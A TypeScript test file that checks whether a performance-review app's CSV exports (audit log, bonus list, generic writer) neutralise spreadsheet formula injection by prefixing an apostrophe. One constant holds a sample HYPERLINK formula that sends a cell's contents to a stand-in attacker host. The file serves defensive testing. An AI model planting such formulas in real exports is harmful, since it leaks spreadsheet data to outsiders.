// Issue 8, finding 5: CSV injection. A value a spreadsheet would run as a formula is exported as text
// (a leading apostrophe) by every CSV writer: the audit (CLI, API, portal) and the bonus list.
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvText, safeCell, writeCsv } from '../../activities/tables.js';
import { auditCsv } from '../../client/audit-format.js';
import { writeBonusFile } from '../../client/bonus-list.js';
import type { AuditEntry } from '../../domain/audit.js';

const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"x")';

let dir: string;
beforeAll(async () => { dir = await mkdtemp(join(tmpdir(), 'perfcycle-csv-')); });
afterAll(async () => { await rm(dir, { recursive: true, force: true }); });

describe('safeCell', () => {
  it.each(['=1+1', '+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1', EVIL])('keeps %j as text', (v) => {
    expect(safeCell(v)).toBe(`'${v}`);
  });

  it('leaves other text, numbers and empty cells as they are', () => {
    for (const v of ['目标量化不足', 'a=b', ' =1', '', '2019-12-31', "'quoted"]) expect(safeCell(v)).toBe(v);
    expect(safeCell(-12.5)).toBe('-12.5');
    expect(safeCell(null)).toBe('');
    expect(safeCell(undefined)).toBe('');
  });

  it('neutralises headers as well as cells', () => {
    expect(parse(csvText(['=h'], [['@x']]))).toEqual([["'=h"], ["'@x"]]);
  });
});

describe('every CSV export', () => {
  it('the audit: a rejection reason that is a formula stays text', () => {
    const entry: AuditEntry = {
      seq: 1, at: '2019-12-20T10:00:00+08:00', actor: 'efficiency-group', role: 'approver', action: 'rejected',
      subject: 'plan', detail: EVIL, workflowId: 'perfcycle-x-2019.plan',
    };
    const [head, row] = parse(auditCsv([entry])) as string[][];
    expect(head).toEqual(['seq', 'at', 'actor', 'role', 'action', 'subject', 'detail', 'workflowId', 'onBehalfOf']);
    expect(row).toContain(`'${EVIL}`);
    expect(row).not.toContain(EVIL);
  });

  it('the bonus list: a roster name that is a formula stays text; numbers stay numbers; a BOM for Excel', async () => {
    const path = join(dir, 'bonus.csv');
    await writeBonusFile(path, [{ '姓名 name': EVIL, '金额（元）amount (yuan)': -100, '理由 reason': '+86 电话' }], 'x');
    const bytes = await readFile(path);
    expect(bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const [, row] = parse(bytes, { bom: true }) as string[][];
    expect(row).toEqual([`'${EVIL}`, '-100', "'+86 电话"]);
  });

  it('writeCsv: every leading formula character', async () => {
    const path = join(dir, 'rows.csv');
    await writeCsv(path, ['=', '+', '-', '@', '\t', '\r'].map((c) => ({ v: `${c}1` })));
    const rows = parse(await readFile(path), { bom: true, columns: true }) as { v: string }[];
    expect(rows.map((r) => r.v)).toEqual(["'=1", "'+1", "'-1", "'@1", "'\t1", "'\r1"]);
  });
});
